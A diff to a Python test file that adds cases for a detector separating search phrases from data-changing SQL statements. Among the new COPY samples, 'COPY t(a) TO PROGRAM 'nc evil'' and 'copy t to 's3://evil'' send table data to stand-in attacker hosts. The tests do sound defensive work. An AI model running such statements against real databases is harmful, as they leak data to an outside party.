@@ -86,6 +86,8 @@ def test_a_statement_that_only_reads_is_none(text: str) -> None:
         "select shoes into cart",
         "create vegetarian menu",
         "drop table design ideas for schools",
+        "copy photos from phone to laptop",
+        "copy (verb) to or from",
     ],
 )
 def test_search_words_that_begin_like_a_statement_are_none(words: str) -> None:
@@ -102,6 +104,13 @@ def test_of_search_words_what_is_written_like_a_statement_is_one() -> None:
     assert changing_statement("update [a].[b] set c = 1", is_sql=False) == "UPDATE"
     assert changing_statement("attach database 'x.db' as y;", is_sql=False) == "ATTACH DATABASE"
     assert changing_statement("truncate users;", is_sql=False) == "TRUNCATE USERS"
+    for statement in (
+        "copy t (a, b) to '/tmp/x'",
+        "copy t to 's3://evil'",
+        "COPY t(a) TO PROGRAM 'nc evil'",
+        "copy t (a) from stdin",
+    ):
+        assert changing_statement(statement, is_sql=False) == "COPY", statement
 
 
 def test_a_tool_says_by_its_words_that_it_takes_sql() -> None:
